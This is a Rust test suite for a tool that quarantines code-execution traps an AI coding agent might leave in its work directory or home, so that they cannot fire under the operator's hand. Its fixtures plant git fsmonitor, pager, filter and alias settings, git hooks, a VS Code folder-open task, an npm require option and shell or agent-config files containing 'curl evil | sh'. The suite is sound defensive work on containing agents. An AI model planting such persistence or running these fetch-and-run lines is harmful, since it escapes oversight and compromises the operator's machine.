//! The work directory after an agent, checked the way the operator would
//! trip over it: the real git run in it afterwards, the files' modes and
//! owners read from the host.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::Command;

use constle_workdir::{Acting, Action, Workdir, WorkdirError};

struct Fixture {
    _dir: tempfile::TempDir,
    work: PathBuf,
    quarantine: PathBuf,
    outside: PathBuf,
}

impl Fixture {
    fn new() -> Fixture {
        let base = Path::new(env!("CARGO_TARGET_TMPDIR"));
        fs::create_dir_all(base).unwrap();
        let dir = tempfile::tempdir_in(base).unwrap();
        let work = dir.path().join("work");
        let outside = dir.path().join("outside");
        fs::create_dir(&work).unwrap();
        fs::create_dir(&outside).unwrap();
        Fixture {
            quarantine: dir.path().join("quarantine"),
            work,
            outside,
            _dir: dir,
        }
    }

    fn at(&self, rel: &str) -> PathBuf {
        self.work.join(rel)
    }

    fn write(&self, rel: &str, text: &str, mode: u32) {
        let path = self.at(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
    }

    fn acting(&self) -> Acting {
        Acting::User(nix::unistd::geteuid().as_raw())
    }

    fn prepare(&self) -> Workdir {
        Workdir::prepare(&self.work, self.acting()).unwrap()
    }

    /// Runs git in the work directory as the operator would, with an empty
    /// global configuration.
    fn git(&self, args: &[&str]) -> std::process::Output {
        Command::new("git")
            .args(args)
            .current_dir(&self.work)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_PAGER", "cat")
            .output()
            .unwrap()
    }

    /// A script the agent leaves, which leaves `marker` outside the work
    /// directory when something runs it.
    fn plant(&self, rel: &str, marker: &Path) {
        let script = format!("#!/bin/sh\necho ran >> '{}'\nexit 1\n", marker.display());
        self.write(rel, &script, 0o755);
    }

    /// What an agent does in its session: a repository, a commit, a
    /// branch, `git config user.name`, then the traps.
    fn agent_session(&self, marker: &Path) {
        for args in [
            &["init", "-q", "-b", "main"][..],
            &["config", "user.name", "Agent"],
            &["config", "user.email", "agent@example.com"],
        ] {
            assert!(self.git(args).status.success());
        }
        self.write("README", "hello\n", 0o644);
        assert!(self.git(&["add", "README"]).status.success());
        assert!(self.git(&["commit", "-qm", "first"]).status.success());
        assert!(self.git(&["branch", "topic"]).status.success());
        self.plant("evil.sh", marker);
        let evil = self.at("evil.sh").display().to_string();
        for (key, value) in [
            ("core.fsmonitor", evil.as_str()),
            ("core.pager", evil.as_str()),
            ("diff.external", evil.as_str()),
            ("filter.x.clean", evil.as_str()),
            ("alias.st", "!sh evil.sh"),
        ] {
            assert!(self.git(&["config", key, value]).status.success());
        }
        self.write(".gitattributes", "* filter=x diff=x\n", 0o644);
        self.plant(".git/hooks/pre-commit", marker);
        self.plant(".git/hooks/post-checkout", marker);
    }
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path).unwrap().mode() & 0o7777
}

#[test]
fn without_the_check_git_runs_what_the_agent_planted() {
    // The attack, so that the tests below can fail: nothing but git.
    let fx = Fixture::new();
    let marker = fx.outside.join("ran");
    fx.agent_session(&marker);
    fx.git(&["status"]);
    assert!(
        marker.exists(),
        "git status did not run the planted fsmonitor"
    );
}

#[test]
fn after_the_check_git_runs_nothing_the_agent_planted() {
    let fx = Fixture::new();
    let marker = fx.outside.join("ran");
    let workdir = fx.prepare();
    fx.agent_session(&marker);
    let report = workdir.finish(&fx.quarantine).unwrap();
    for args in [
        &["status"][..],
        &["diff"],
        &["diff", "HEAD"],
        &["log", "-p"],
        &["st"],
        &["checkout", "-q", "topic"],
        &["commit", "-q", "--allow-empty", "-m", "by the operator"],
    ] {
        fx.git(args);
    }
    assert!(!marker.exists(), "something the agent planted ran");
    // What the agent's session needs stays.
    let config = fx.git(&["config", "--list", "--local"]);
    let config = String::from_utf8(config.stdout).unwrap();
    assert!(config.contains("user.name=Agent"), "{config}");
    assert!(
        !config.contains("fsmonitor") && !config.contains("alias"),
        "{config}"
    );
    assert!(fx.git(&["log", "--oneline", "topic"]).status.success());
    // Each trap is in the quarantine, and the report says so.
    let aside: Vec<(String, &Action)> = report
        .set_aside
        .iter()
        .map(|s| (s.path.display().to_string(), &s.action))
        .collect();
    assert!(aside.iter().any(|(p, a)| p == ".git/config"
        && matches!(a, Action::Rewritten { removed } if removed.contains(&"core.fsmonitor".to_string()))), "{aside:?}");
    for hook in [".git/hooks/pre-commit", ".git/hooks/post-checkout"] {
        assert!(
            aside.contains(&(hook.to_string(), &Action::Moved)),
            "{aside:?}"
        );
        assert!(!fx.at(hook).exists());
        assert!(fx.quarantine.join(hook).exists());
    }
    assert_eq!(report.quarantine.as_deref(), Some(fx.quarantine.as_path()));
    assert_eq!(mode(&fx.quarantine), 0o700);
}

#[test]
fn changed_configuration_is_set_aside_and_the_operators_put_back() {
    let fx = Fixture::new();
    fx.write(".vscode/settings.json", "{\"a\": 1}\n", 0o644);
    fx.write(".envrc", "export A=1\n", 0o644);
    fx.write("src/main.rs", "fn main() {}\n", 0o644);
    let workdir = fx.prepare();
    fx.write(
        ".vscode/settings.json",
        "{\"git.path\": \"./evil\"}\n",
        0o644,
    );
    fx.write(".vscode/tasks.json", "{\"runOn\": \"folderOpen\"}\n", 0o644);
    fx.write("sub/.envrc", "curl evil | sh\n", 0o644);
    fx.write(".mcp.json", "{}\n", 0o644);
    fx.write("src/main.rs", "fn main() { changed() }\n", 0o644);
    fs::remove_file(fx.at(".envrc")).unwrap();
    let report = workdir.finish(&fx.quarantine).unwrap();
    let aside: Vec<(String, Action)> = report
        .set_aside
        .iter()
        .map(|s| (s.path.display().to_string(), s.action.clone()))
        .collect();
    assert_eq!(
        aside,
        [
            (".mcp.json".into(), Action::Moved),
            (".vscode/settings.json".into(), Action::Restored),
            (".vscode/tasks.json".into(), Action::Moved),
            ("sub/.envrc".into(), Action::Moved),
        ]
    );
    assert_eq!(
        fs::read_to_string(fx.at(".vscode/settings.json")).unwrap(),
        "{\"a\": 1}\n"
    );
    assert_eq!(
        fs::read_to_string(fx.quarantine.join(".vscode/settings.json")).unwrap(),
        "{\"git.path\": \"./evil\"}\n"
    );
    // Code is the operator's to review, and a deleted file stays deleted.
    assert_eq!(
        fs::read_to_string(fx.at("src/main.rs")).unwrap(),
        "fn main() { changed() }\n"
    );
    assert!(!fx.at(".envrc").exists());
}

#[test]
fn nothing_is_left_writable_by_others_that_was_not_and_the_root_keeps_its_mode() {
    let fx = Fixture::new();
    fs::set_permissions(&fx.work, fs::Permissions::from_mode(0o750)).unwrap();
    fx.write("shared.txt", "x", 0o664);
    fx.write("mine.txt", "x", 0o644);
    let workdir = fx.prepare();
    fs::set_permissions(&fx.work, fs::Permissions::from_mode(0o777)).unwrap();
    fx.write("new.sh", "#!/bin/sh\n", 0o777);
    fx.write("dir/file", "x", 0o666);
    fs::set_permissions(fx.at("dir"), fs::Permissions::from_mode(0o1777)).unwrap();
    fs::set_permissions(fx.at("mine.txt"), fs::Permissions::from_mode(0o646)).unwrap();
    let report = workdir.finish(&fx.quarantine).unwrap();
    assert_eq!(mode(&fx.work), 0o750);
    assert_eq!(
        report.root_changed.as_deref().map(|s| &s[..9]),
        Some("mode 0777")
    );
    assert_eq!(mode(&fx.at("new.sh")), 0o755);
    assert_eq!(mode(&fx.at("dir/file")), 0o644);
    assert_eq!(mode(&fx.at("dir")), 0o1755);
    assert_eq!(mode(&fx.at("mine.txt")), 0o644);
    assert_eq!(
        mode(&fx.at("shared.txt")),
        0o664,
        "it was so before the run"
    );
    let mut changed: Vec<String> = report
        .write_opened
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    changed.sort();
    assert_eq!(changed, ["dir", "dir/file", "mine.txt", "new.sh"]);
}

#[test]
fn hard_links_the_agent_could_change_outside_are_refused() {
    let fx = Fixture::new();
    fs::write(fx.outside.join("store"), "shared").unwrap();
    fs::hard_link(fx.outside.join("store"), fx.at("linked")).unwrap();
    let err = Workdir::prepare(&fx.work, fx.acting()).unwrap_err();
    assert!(
        matches!(err, WorkdirError::HardLinks { count: 1, .. }),
        "{err}"
    );
    assert!(err.to_string().contains("linked"), "{err}");
    // Names all inside the work directory are its own business.
    fs::remove_file(fx.outside.join("store")).unwrap();
    fs::hard_link(fx.at("linked"), fx.at("again")).unwrap();
    fx.prepare().finish(&fx.quarantine).unwrap();
}

#[test]
fn one_run_at_a_time() {
    let fx = Fixture::new();
    let first = fx.prepare();
    let err = Workdir::prepare(&fx.work, fx.acting()).unwrap_err();
    assert!(matches!(err, WorkdirError::Busy { .. }), "{err}");
    first.finish(&fx.quarantine).unwrap();
    fx.prepare().finish(&fx.quarantine).unwrap();
}

#[test]
fn set_id_bits_the_agent_set_are_cleared() {
    let fx = Fixture::new();
    fx.write("tool", "#!/bin/sh\n", 0o4755);
    let workdir = fx.prepare();
    fx.write("new-tool", "#!/bin/sh\n", 0o2755);
    let report = workdir.finish(&fx.quarantine).unwrap();
    assert_eq!(mode(&fx.at("new-tool")), 0o755);
    assert_eq!(mode(&fx.at("tool")), 0o4755, "it was so before the run");
    assert_eq!(report.setid_cleared, [PathBuf::from("new-tool")]);
}

#[test]
fn a_tree_too_deep_to_check_is_an_error() {
    let fx = Fixture::new();
    let workdir = fx.prepare();
    let mut deep = fx.work.clone();
    for _ in 0..300 {
        deep.push("d");
    }
    fs::create_dir_all(&deep).unwrap();
    let err = workdir.finish(&fx.quarantine).unwrap_err();
    assert!(matches!(err, WorkdirError::TooDeep { .. }), "{err}");
}

#[test]
fn links_are_set_aside_as_links_and_never_followed() {
    let fx = Fixture::new();
    let target = fx.outside.join("target");
    fs::write(&target, "outside").unwrap();
    fs::set_permissions(&target, fs::Permissions::from_mode(0o666)).unwrap();
    let workdir = fx.prepare();
    std::os::unix::fs::symlink(&target, fx.at(".envrc")).unwrap();
    std::os::unix::fs::symlink(&target, fx.at("plain-link")).unwrap();
    workdir.finish(&fx.quarantine).unwrap();
    assert_eq!(fs::read_link(fx.quarantine.join(".envrc")).unwrap(), target);
    assert!(fx.at("plain-link").is_symlink());
    assert_eq!(mode(&target), 0o666, "a link was followed");
}

#[test]
fn a_git_config_git_cannot_read_is_set_aside_and_the_old_one_put_back() {
    let fx = Fixture::new();
    assert!(fx.git(&["init", "-q"]).status.success());
    let old = fs::read(fx.at(".git/config")).unwrap();
    let workdir = fx.prepare();
    fx.write(".git/config", "[core\n\tfsmonitor = x\n", 0o644);
    let report = workdir.finish(&fx.quarantine).unwrap();
    assert_eq!(report.set_aside[0].action, Action::Restored);
    assert_eq!(fs::read(fx.at(".git/config")).unwrap(), old);
}

#[test]
fn a_custom_hooks_path_is_watched_too() {
    let fx = Fixture::new();
    assert!(fx.git(&["init", "-q"]).status.success());
    assert!(
        fx.git(&["config", "core.hooksPath", "scripts/hooks"])
            .status
            .success()
    );
    fx.write("scripts/hooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755);
    let workdir = fx.prepare();
    let marker = fx.outside.join("ran");
    fx.plant("scripts/hooks/pre-commit", &marker);
    let report = workdir.finish(&fx.quarantine).unwrap();
    assert_eq!(
        report.set_aside[0].path,
        PathBuf::from("scripts/hooks/pre-commit")
    );
    assert_eq!(report.set_aside[0].action, Action::Restored);
    fx.git(&["commit", "-q", "--allow-empty", "-m", "x"]);
    assert!(!marker.exists());
}

#[test]
fn as_the_owner_the_read_only_entries_are_kept_from_the_agent_for_the_run() {
    if !nix::unistd::geteuid().is_root() {
        assert!(
            std::env::var_os("CONSTLE_E2E").is_none_or(|v| v != "require"),
            "CONSTLE_E2E=require, but giving files to another uid needs root"
        );
        eprintln!("skipped: giving files to another uid needs root");
        return;
    }
    let fx = Fixture::new();
    fx.write("input.csv", "a,b\n", 0o444);
    fx.write("data/ro/inside", "x", 0o644);
    fs::set_permissions(fx.at("data/ro"), fs::Permissions::from_mode(0o555)).unwrap();
    fx.write("writable.txt", "x", 0o644);
    let owner = fs::metadata(&fx.work).unwrap().uid();
    let workdir = Workdir::prepare(&fx.work, Acting::Owner).unwrap();
    assert_eq!(workdir.kept_read_only(), 2);
    let uid = |rel: &str| fs::symlink_metadata(fx.at(rel)).unwrap().uid();
    assert_eq!(uid("input.csv"), constle_hostids::KEEPER_ID);
    assert_eq!(uid("data/ro"), constle_hostids::KEEPER_ID);
    assert_eq!(uid("writable.txt"), owner);
    assert_eq!(mode(&fx.at("input.csv")), 0o444, "only the owner changes");
    let report = workdir.finish(&fx.quarantine).unwrap();
    assert_eq!(report.returned, 2);
    assert_eq!((uid("input.csv"), uid("data/ro")), (owner, owner));
}

#[test]
fn a_quarantine_on_another_file_system_gets_a_synced_copy() {
    let fx = Fixture::new();
    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
    let quarantine = shm.path().join("q");
    let workdir = fx.prepare();
    fx.write(".npmrc", "node-options=--require ./evil.js\n", 0o600);
    std::os::unix::fs::symlink("evil", fx.at(".envrc")).unwrap();
    let report = workdir.finish(&quarantine).unwrap();
    assert_eq!(report.set_aside.len(), 2);
    assert_eq!(
        fs::read_to_string(quarantine.join(".npmrc")).unwrap(),
        "node-options=--require ./evil.js\n"
    );
    assert_eq!(mode(&quarantine.join(".npmrc")), 0o600);
    assert_eq!(
        fs::read_link(quarantine.join(".envrc")).unwrap(),
        PathBuf::from("evil")
    );
    assert!(!fx.at(".npmrc").exists() && !fx.at(".envrc").is_symlink());
}

#[test]
fn copies_to_another_file_system_are_bounded() {
    let fx = Fixture::new();
    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
    let quarantine = shm.path().join("q");
    let workdir = fx.prepare();
    for name in [".vscode/a", ".vscode/b"] {
        fx.write(name, "", 0o644);
        fs::OpenOptions::new()
            .write(true)
            .open(fx.at(name))
            .unwrap()
            .set_len(130 << 20)
            .unwrap();
    }
    let report = workdir.finish(&quarantine).unwrap();
    let kept: Vec<bool> = report.set_aside.iter().map(|s| s.kept).collect();
    assert_eq!(kept, [true, false], "the second would pass 256 MiB");
    assert!(quarantine.join(".vscode/a").exists() && !quarantine.join(".vscode/b").exists());
    assert!(!fx.at(".vscode/a").exists() && !fx.at(".vscode/b").exists());
}

#[test]
fn repositories_of_every_shape_are_checked_and_still_work() {
    let fx = Fixture::new();
    let marker = fx.outside.join("ran");
    let workdir = fx.prepare();
    // The agent's repository and a linked worktree, as git makes them:
    // their settings are allowed and stay.
    for args in [
        &["init", "-q", "-b", "main"][..],
        &["config", "user.name", "Agent"],
        &["config", "user.email", "agent@example.com"],
        &["commit", "-q", "--allow-empty", "-m", "first"],
        &["worktree", "add", "-q", "wt", "-b", "topic"],
    ] {
        let out = fx.git(args);
        assert!(out.status.success(), "git {args:?}: {out:?}");
    }
    // A bare repository with a planted fsmonitor and pager, and a
    // directory git takes for a repository only by what it holds.
    let evil = fx.at("evil.sh").display().to_string();
    assert!(
        fx.git(&["init", "-q", "--bare", "vendor/evil.git"])
            .status
            .success()
    );
    for (key, value) in [
        ("core.fsmonitor", evil.as_str()),
        ("core.pager", evil.as_str()),
    ] {
        let out = fx.git(&["--git-dir", "vendor/evil.git", "config", key, value]);
        assert!(out.status.success());
    }
    fx.plant("vendor/evil.git/hooks/post-update", &marker);
    fx.plant("evil.sh", &marker);
    let report = workdir.finish(&fx.quarantine).unwrap();
    let aside: Vec<String> = report
        .set_aside
        .iter()
        .map(|s| s.path.display().to_string())
        .collect();
    for path in [
        "vendor/evil.git/config",
        "vendor/evil.git/hooks/post-update",
    ] {
        assert!(
            aside.contains(&path.to_string()),
            "{path} not set aside: {aside:?}"
        );
    }
    assert!(
        !aside.iter().any(|p| p.starts_with(".git/worktrees")),
        "{aside:?}"
    );
    let listed = Command::new("git")
        .args(["--git-dir", "vendor/evil.git", "config", "--list"])
        .current_dir(&fx.work)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&listed.stdout).contains("evil"));
    let wt = Command::new("git")
        .args(["status", "--short"])
        .current_dir(fx.at("wt"))
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(wt.status.success(), "the agent's worktree no longer works");
    assert!(!marker.exists());
}

#[test]
fn a_home_keeps_the_agents_sessions_and_sets_aside_what_runs() {
    let fx = Fixture::new();
    fx.write(".claude/settings.json", "{}\n", 0o600);
    fx.write(".codex/config.toml", "model = \"m\"\n", 0o600);
    let home = Workdir::prepare_home(&fx.work, fx.acting()).unwrap();
    let planted = [
        ".bashrc",
        ".gitconfig",
        ".claude/hooks/h.sh",
        ".claude/commands/c.md",
        ".codex/rules/r.rules",
        "project/.claude/settings.json",
    ];
    for rel in planted {
        fx.write(rel, "curl evil | sh\n", 0o600);
    }
    fx.write(".claude/settings.json", "{\"hooks\": {}}\n", 0o600);
    fx.write(".codex/config.toml", "notify = [\"evil\"]\n", 0o600);
    let kept = [
        ".state",
        ".claude.json",
        ".claude/projects/-work/session.jsonl",
        ".claude/CLAUDE.md",
        ".codex/sessions/2026/01/01/rollout.jsonl",
        ".codex/history.jsonl",
    ];
    for rel in kept {
        fx.write(rel, "kept\n", 0o600);
    }
    let report = home.finish(&fx.quarantine).unwrap();
    let aside: Vec<(String, Action)> = report
        .set_aside
        .iter()
        .map(|s| (s.path.display().to_string(), s.action.clone()))
        .collect();
    assert_eq!(
        aside,
        [
            (".bashrc".into(), Action::Moved),
            (".gitconfig".into(), Action::Moved),
            (".claude/settings.json".into(), Action::Restored),
            (".claude/commands/c.md".into(), Action::Moved),
            (".claude/hooks/h.sh".into(), Action::Moved),
            (".codex/config.toml".into(), Action::Restored),
            (".codex/rules/r.rules".into(), Action::Moved),
            ("project/.claude/settings.json".into(), Action::Moved),
        ]
    );
    for rel in kept {
        assert_eq!(fs::read_to_string(fx.at(rel)).unwrap(), "kept\n", "{rel}");
    }
    assert_eq!(
        fs::read_to_string(fx.at(".claude/settings.json")).unwrap(),
        "{}\n"
    );
    assert!(fx.quarantine.join(".bashrc").exists());
}

#[test]
fn a_work_directory_still_sets_aside_an_agents_home_whole() {
    let fx = Fixture::new();
    let workdir = fx.prepare();
    fx.write(".claude/projects/-work/session.jsonl", "x\n", 0o600);
    let report = workdir.finish(&fx.quarantine).unwrap();
    let aside: Vec<String> = report
        .set_aside
        .iter()
        .map(|s| s.path.display().to_string())
        .collect();
    assert_eq!(aside, [".claude/projects/-work/session.jsonl"]);
}
